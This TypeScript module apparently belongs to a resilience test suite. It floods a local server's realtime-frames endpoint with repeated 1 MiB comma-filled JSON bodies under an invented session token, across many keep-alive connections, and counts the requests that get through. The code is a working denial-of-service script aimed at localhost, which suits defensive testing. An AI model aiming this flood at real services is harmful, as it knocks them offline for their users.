import { Agent, request } from 'node:http'
import { ATTACKER_ADDRESS, type AttackOutcome, type AttackPlan } from './plan.ts'

const BODY = `[${','.repeat(1_048_574)}]`

/** Sends 1 MiB of commas again and again, for a session that does not exist. */
export async function sendSessionBodies(plan: AttackPlan): Promise<AttackOutcome> {
  const endsAt = Date.now() + plan.forMs
  const agent = new Agent({ keepAlive: true, maxSockets: plan.connections })
  let taken = 0
  const attacker = async (): Promise<void> => {
    while (Date.now() < endsAt) {
      await post(agent, plan.port)
      taken += 1
    }
  }
  await Promise.all(Array.from({ length: plan.connections }, attacker))
  agent.destroy()
  return { taken }
}

function post(agent: Agent, port: number): Promise<void> {
  return new Promise((resolve) => {
    const sent = request({
      agent,
      port,
      host: '127.0.0.1',
      localAddress: ATTACKER_ADDRESS,
      method: 'POST',
      path: '/api/realtime/frames',
      headers: {
        authorization: 'Session c_1.invented',
        'content-type': 'application/json',
        'content-length': BODY.length,
      },
    })
    sent.on('response', (response) => {
      response.resume()
      response.on('close', resolve)
    })
    sent.on('error', () => resolve())
    sent.end(BODY)
  })
}
